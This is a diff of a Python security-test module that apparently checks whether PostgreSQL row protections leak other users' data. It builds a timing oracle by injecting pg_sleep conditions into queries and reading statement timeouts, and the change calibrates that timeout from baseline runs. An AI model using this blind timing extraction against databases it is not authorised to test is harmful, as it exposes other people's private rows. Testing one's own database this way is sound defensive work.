@@ -1,7 +1,9 @@
 """Operators and functions that Postgres does not trust, in conditions on rows of others."""
 
 import re
+from collections.abc import Awaitable, Callable
 from itertools import product
+from time import monotonic
 
 import asyncpg
 
@@ -11,7 +13,10 @@ from tests.attacks.explaining import by_explain, plain, what_ran
 from tests.attacks.looking import of_each_kind, of_others, quoted, readable
 from tests.attacks.target import Target
 
-_PATIENCE = "25ms"  # longer than a look takes that reaches nobody's row
+_LEAST_PATIENCE, _MOST_PATIENCE = 0.025, 0.5
+"""Seconds that a look may take before it is called late: more than one that reaches no row."""
+
+_LOOKS = 5
 _TEXTS = 2  # of each column and each way to ask
 
 
@@ -83,20 +88,22 @@ async def naps(target: Target, depth: Depth) -> Found:
                 if found & target.secrets.texts:
                     break
                 shown = await shown_values(db, relation, column, where)
-                await db.execute(f"set statement_timeout = '{_PATIENCE}'")
-                oracle = _by_clock(db, relation.name, where)
+                oracle = await _by_clock(db, relation.name, where)
                 texts = hidden_texts(oracle, column, shown, one, counted=target.secrets.texts)
                 found |= {text async for text in texts}
                 await db.execute("reset statement_timeout")
     return of_several(found & target.secrets.texts, len(target.secrets.texts))
 
 
-def _by_clock(db: asyncpg.Connection, relation: str, where: str) -> Oracle:
-    async def late(condition: str) -> bool:
+async def _by_clock(db: asyncpg.Connection, relation: str, where: str) -> Oracle:
+    async def look(condition: str) -> None:
         # A second for each row that is reached, and no patience for a first one.
         nap = f"pg_sleep(case when {condition} then 1 else 0 end) is null"
+        await db.fetch(f"select 1 from {relation} where {where} and {nap}")
+
+    async def late(condition: str) -> bool:
         try:
-            await db.fetch(f"select 1 from {relation} where {where} and {nap}")
+            await look(condition)
         except asyncpg.QueryCanceledError:
             return True
         return False
@@ -105,4 +112,14 @@ def _by_clock(db: asyncpg.Connection, relation: str, where: str) -> Oracle:
         # A view may be slow by itself, and a busy machine late without a reason.
         return await late(condition) and not await late(nobody) and await late(condition)
 
+    # How long a look takes is another thing on each machine, and at each hour.
+    usual = [await _seconds(look, "false") for _ in range(_LOOKS)]
+    patience = min(max(_LEAST_PATIENCE, 3 * max(usual)), _MOST_PATIENCE)
+    await db.execute(f"set statement_timeout = '{patience * 1000:.0f}ms'")
     return oracle
+
+
+async def _seconds(look: Callable[[str], Awaitable[None]], condition: str) -> float:
+    begun = monotonic()
+    await look(condition)
+    return monotonic() - begun
